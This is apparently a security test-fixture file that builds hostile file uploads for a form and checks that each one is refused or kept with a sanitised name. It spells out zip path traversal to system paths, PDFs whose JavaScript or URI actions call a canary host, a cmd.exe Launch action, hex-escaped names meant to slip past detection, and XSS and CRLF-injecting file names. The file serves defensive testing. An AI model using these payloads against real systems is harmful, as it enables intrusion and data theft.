/**
 * Files sent with the form: names, extensions and contents that disagree, DOCX and ODT archives
 * that would unpack to far too much or outside themselves, encrypted, truncated and script-bearing
 * PDFs (refused, naming the file and the reason, storing nothing and leaving no temporary file),
 * and file names carrying markup, paths and invisible characters (kept as harmless metadata).
 */
import { docx } from '../factories/office-files';
import { strToU8, zipSync } from 'fflate';
import { PDFArray, PDFDocument, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import { kept, make, refused } from './build';
import type { CaseContext, HostileCase, HostileClass, Text } from './types';

const MISMATCH = 'name, extension and content disagree';
const ARCHIVE = 'zip bombs and path traversal in DOCX';
const PDF = 'encrypted, truncated and script-bearing PDFs';

const odt = (extra: Record<string, Uint8Array> = {}) =>
  zipSync({
    mimetype: [strToU8('application/vnd.oasis.opendocument.text'), { level: 0 }],
    'content.xml': strToU8('<?xml version="1.0"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>'),
    'META-INF/manifest.xml': strToU8('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'),
    ...extra,
  });

/** A one-page PDF, changed by `build`, with a classic cross-reference table (so it can be edited as text). */
async function pdf(build?: (doc: PDFDocument) => void, pages = 1): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  for (let i = 0; i < pages; i++) doc.addPage().drawText('Input to the IMRF');
  build?.(doc);
  // pdf-lib adds a blank page to a document without any unless told not to.
  return doc.save({ useObjectStreams: false, addDefaultPage: pages > 0 });
}

/** The PDF with `from` replaced by `to` (same length, so every offset stays right). */
function patched(bytes: Uint8Array, from: string, to: string): Uint8Array {
  if (from.length !== to.length) throw new Error('a patch must keep the length');
  const text = Buffer.from(bytes).toString('latin1');
  if (!text.includes(from)) throw new Error(`nothing to patch: ${from}`);
  return new Uint8Array(Buffer.from(text.replace(from, to), 'latin1'));
}

const action = (doc: PDFDocument, fields: Record<string, unknown>) => doc.context.obj(fields as never) as unknown as PDFDict;

/**
 * The canary address as a quoted script string spelled without a slash (a file name loses everything
 * up to its last slash): HTML entities, which an attribute value would decode back into slashes.
 */
const slashless = (c: CaseContext) => `'http:&#47;&#47;${c.canaryHost}&#47;c&#47;${c.caseId}'`;
/** A file name in an RFC 5987 extended parameter (any character, percent-encoded). */
const extended = (name: string) => `form-data; name="attachments"; filename*=UTF-8''${encodeURIComponent(name).replace(/['()*!]/g, (ch) => `%${ch.charCodeAt(0).toString(16).toUpperCase()}`)}`;

const file = (id: string, cls: HostileClass, name: Text, bytes: (c: CaseContext) => Uint8Array | Promise<Uint8Array>, expect: HostileCase['expect'], script = false, disposition?: (c: CaseContext) => string) =>
  make(id, cls, 'file', { via: 'file', name, bytes, ...(disposition ? { disposition } : {}) }, expect, script);

const fileRefused = (key: Parameters<typeof refused>[1]) => refused('attachments', key);

export const FILE_CASES: HostileCase[] = [
  // Name, extension and content disagree.
  file('file-odt-holding-docx', MISMATCH, 'report.odt', () => docx(), fileRefused('attachment.mismatch')),
  file('file-docx-holding-odt', MISMATCH, 'report.docx', () => odt(), fileRefused('attachment.mismatch')),
  file('file-pdf-holding-zip', MISMATCH, 'report.pdf', () => zipSync({ 'a.txt': strToU8('hello') }), fileRefused('attachment.mismatch')),
  file('file-exe-named-pdf', MISMATCH, 'report.exe.pdf', () => new Uint8Array(Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'latin1'), Buffer.alloc(64), Buffer.from('PE\x00\x00', 'latin1'), Buffer.alloc(200)])), fileRefused('attachment.mismatch')),
  file('file-jpeg-named-jpg', MISMATCH, 'photo.jpg', () => new Uint8Array(Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')), fileRefused('attachment.typeNotAllowed')),
  file('file-svg-with-script', MISMATCH, 'chart.svg', (c) => strToU8(`<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('${c.canary}')</script></svg>`), fileRefused('attachment.typeNotAllowed')),
  file('file-double-extension-exe', MISMATCH, 'report.pdf.exe', () => strToU8('MZ'), fileRefused('attachment.typeNotAllowed')),
  file('file-name-only-dots', MISMATCH, '...pdf', () => pdf(), fileRefused('attachment.typeNotAllowed')),
  file('file-html-pdf-polyglot', MISMATCH, 'paper.pdf', async (c) => new Uint8Array(Buffer.concat([Buffer.from(`<html><script src="${c.canary}"></script></html>\n`), Buffer.from(await pdf())])), fileRefused('attachment.unreadable')),
  file('file-txt-utf16', MISMATCH, 'notes.txt', () => new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Notes on objective 23', 'utf16le')])), fileRefused('attachment.mismatch')),
  file('file-txt-with-nul', MISMATCH, 'notes.txt', () => strToU8('abc\u0000def'), fileRefused('attachment.unreadable')),
  file('file-empty-pdf', MISMATCH, 'empty.pdf', () => new Uint8Array(0), fileRefused('attachment.empty')),
  file('file-over-size-limit', MISMATCH, 'long.txt', () => strToU8('x'.repeat(1024 * 1024 + 10)), fileRefused('attachment.tooLarge')),

  // Archives.
  file('file-docx-absolute-path', ARCHIVE, 'absolute.docx', () => docx({ '/etc/cron.d/evil': strToU8('* * * * * root id') }), fileRefused('attachment.unsafeArchive')),
  file('file-docx-backslash-traversal', ARCHIVE, 'backslash.docx', () => docx({ 'word\\..\\..\\evil.bat': strToU8('@echo off') }), fileRefused('attachment.unsafeArchive')),
  file('file-docx-drive-letter', ARCHIVE, 'drive.docx', () => docx({ 'C:/Windows/System32/evil.dll': strToU8('MZ') }), fileRefused('attachment.unsafeArchive')),
  file('file-docx-many-entries', ARCHIVE, 'many.docx', () => docx(Object.fromEntries(Array.from({ length: 2100 }, (_, i) => [`word/p${i}.xml`, strToU8('<x/>')]))), fileRefused('attachment.unsafeArchive')),
  file('file-docx-high-ratio', ARCHIVE, 'ratio.docx', () => docx({ 'word/media/image1.bin': new Uint8Array(8 * 1024 * 1024) }), fileRefused('attachment.unsafeArchive')),
  file('file-docx-truncated', ARCHIVE, 'cut.docx', () => { const d = docx({ 'word/media/a.bin': strToU8('x'.repeat(5000)) }); return d.subarray(0, Math.floor(d.length / 2)); }, fileRefused('attachment.unreadable')),
  file('file-odt-traversal', ARCHIVE, 'notes.odt', () => odt({ '../../evil.sh': strToU8('#!/bin/sh') }), fileRefused('attachment.unsafeArchive')),

  // PDFs.
  file('file-pdf-header-only', PDF, 'stub.pdf', () => strToU8('%PDF-1.7\n%%EOF\n'), fileRefused('attachment.unreadable')),
  file('file-pdf-no-pages', PDF, 'nopages.pdf', () => pdf(undefined, 0), fileRefused('attachment.unreadable')),
  file('file-pdf-cut-before-xref', PDF, 'cut.pdf', async () => { const b = await pdf(); return b.subarray(0, Math.floor(b.length * 0.3)); }, fileRefused('attachment.unreadable')),
  file('file-pdf-aes-encrypted', PDF, 'aes.pdf', async () => {
    const text = Buffer.from(await pdf()).toString('latin1');
    return new Uint8Array(Buffer.from(text.replace(/trailer\s*<</, 'trailer\n<< /Encrypt << /Filter /Standard /V 4 /R 4 /Length 128 /CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF /O <00> /U <00> /P -1028 >>'), 'latin1'));
  }, fileRefused('attachment.encryptedPdf')),
  file('file-pdf-direct-javascript-open-action', PDF, 'open-js.pdf', (c) => pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'JavaScript', JS: PDFString.of(`app.launchURL('${c.canary}')`) }))), fileRefused('attachment.activePdf')),
  file('file-pdf-page-open-javascript', PDF, 'page-js.pdf', (c) => pdf((d) => d.getPage(0).node.set(PDFName.of('AA'), d.context.obj({ O: action(d, { S: 'JavaScript', JS: PDFString.of(`app.launchURL('${c.canary}')`) }) }))), fileRefused('attachment.activePdf')),
  file('file-pdf-open-action-uri', PDF, 'open-uri.pdf', (c) => pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'URI', URI: PDFString.of(c.canary) }))), fileRefused('attachment.activePdf')),
  file('file-pdf-open-action-submit-form', PDF, 'submit.pdf', (c) => pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'SubmitForm', F: d.context.obj({ FS: 'URL', F: PDFString.of(c.canary) }) }))), fileRefused('attachment.activePdf')),
  file('file-pdf-link-launch', PDF, 'launch.pdf', () => pdf((d) => {
    const link = d.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 600, 800], A: action(d, { S: 'Launch', F: PDFString.of('cmd.exe'), Win: d.context.obj({ F: PDFString.of('cmd.exe'), P: PDFString.of('/c calc') }) }) });
    d.getPage(0).node.set(PDFName.of('Annots'), d.context.obj([d.context.register(link)]) as PDFArray);
  }), fileRefused('attachment.activePdf')),
  file('file-pdf-remote-goto-unc', PDF, 'remote.pdf', () => pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'GoToR', F: PDFString.of('\\\\203.0.113.9\\share\\x.pdf'), D: [0, 'Fit'] }))), fileRefused('attachment.activePdf')),
  file('file-pdf-hex-escaped-javascript', PDF, 'hex.pdf', async (c) => patched(await pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'Placeholder1', JS: PDFString.of(`app.launchURL('${c.canary}')`) }))), '/Placeholder1', '/#4aavaScript'), fileRefused('attachment.activePdf')),
  // Nothing active spelled plainly: the action's kind and its script key are both escaped (upper-case hex, as pdf-lib decodes).
  file('file-pdf-hex-escaped-names-only', PDF, 'escaped.pdf', async (c) => patched(patched(await pdf((d) => d.catalog.set(PDFName.of('OpenAction'), action(d, { S: 'Placeholder1', Placeholder2: PDFString.of(`app.launchURL('${c.canary}')`) }))), '/Placeholder1', '/#4AavaScript'), '/Placeholder2', '/J#53        '), fileRefused('attachment.activePdf')),
  file('file-pdf-document-javascript', PDF, 'names.pdf', (c) => pdf((d) => d.catalog.set(PDFName.of('Names'), d.context.obj({ JavaScript: d.context.obj({ Names: [PDFString.of('init'), action(d, { S: 'JavaScript', JS: PDFString.of(`app.launchURL('${c.canary}')`) })] }) }))), fileRefused('attachment.activePdf')),
  file('file-pdf-xfa-form', PDF, 'xfa.pdf', (c) => pdf((d) => d.catalog.set(PDFName.of('AcroForm'), d.context.obj({ Fields: [], XFA: PDFString.of(`<xdp:xdp><template><script contentType="application/x-javascript">app.launchURL('${c.canary}')</script></template></xdp:xdp>`) }))), fileRefused('attachment.activePdf')),
  // Opening at a page, and a link a reader follows only when clicked, are part of ordinary documents: kept.
  file('file-pdf-open-at-page', PDF, 'open-at-page.pdf', () => pdf((d) => d.catalog.set(PDFName.of('OpenAction'), d.context.obj([d.getPage(1).ref, 'Fit'])), 2), kept(), false),
  file('file-pdf-clickable-link', PDF, 'with-link.pdf', () => pdf((d) => {
    const link = d.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: action(d, { S: 'URI', URI: PDFString.of('https://www.un.org/migration') }) });
    d.getPage(0).node.set(PDFName.of('Annots'), d.context.obj([d.context.register(link)]) as PDFArray);
  }), kept()),

  // Names are metadata: kept, harmless (no path, no controls), and shown as text.
  file('file-name-img-onerror', 'markup and script', (c) => `"><img src=x onerror="fetch(${slashless(c)})">.pdf`, () => pdf(), kept(), true, (c) => extended(`"><img src=x onerror="fetch(${slashless(c)})">.pdf`)),
  file('file-name-svg-onload', 'markup and script', (c) => `<svg onload=fetch(${slashless(c)})>.pdf`, () => pdf(), kept(), true),
  file('file-name-details-ontoggle', 'markup and script', (c) => `<details open ontoggle=fetch(${slashless(c)})>.pdf`, () => pdf(), kept(), true),
  file('file-name-css-url', 'markup and script', (c) => `<div style=background:url(http:&#47;&#47;${c.canaryHost}&#47;c&#47;${c.caseId})>x.pdf`, () => pdf(), kept(), true),
  file('file-name-javascript-href', 'markup and script', (c) => `<a href=javascript:fetch(${slashless(c)})>report.pdf`, () => pdf(), kept(), true),
  file('file-txt-holding-html', 'markup and script', 'notes.txt', (c) => strToU8(`<!doctype html><script src="${c.canary}"></script><img src=x onerror="fetch('${c.canary}')">`), kept(), true),
  file('file-name-traversal', MISMATCH, '../../etc/passwd.pdf', () => pdf(), kept('passwd.pdf')),
  file('file-name-windows-path', MISMATCH, 'C:\\fakepath\\report.pdf', () => pdf(), kept('report.pdf')),
  file('file-name-percent-encoded-traversal', MISMATCH, '%2e%2e%2fetc%2fpasswd.pdf', () => pdf(), kept('%2e%2e%2fetc%2fpasswd.pdf')),
  file('file-name-nul-truncation', MISMATCH, 'evil.exe.pdf', () => pdf(), kept('evil.exe.pdf'), false, () => extended('evil.exe\u0000.pdf')),
  file('file-name-uppercase-extension', MISMATCH, 'REPORT.PDF', () => pdf(), kept()),
  file('file-name-rlo', 'control and bidi-override characters', 'invoice\u202Egpj.pdf', () => pdf(), kept('invoicegpj.pdf')),
  file('file-name-crlf', 'CR/LF towards e-mail headers', 'reportX-Injected: 1.pdf', () => pdf(), kept('reportX-Injected: 1.pdf'), false, () => extended('report\r\nX-Injected: 1.pdf')),
  file('file-name-zero-width', 'zero-width and homoglyph tricks', 'repo\u200Brt\u2060.pdf', () => pdf(), kept('report.pdf')),
  file('file-name-persian-zwnj', 'legitimate text in any script', 'گزارش\u200Cنهایی.pdf', () => pdf(), kept()),
  file('file-name-300-characters', 'oversized fields and bodies', `${'ملف'.repeat(100)}.pdf`, () => pdf(), kept(`${'ملف'.repeat(100)}`.slice(0, 146) + '.pdf')),
];
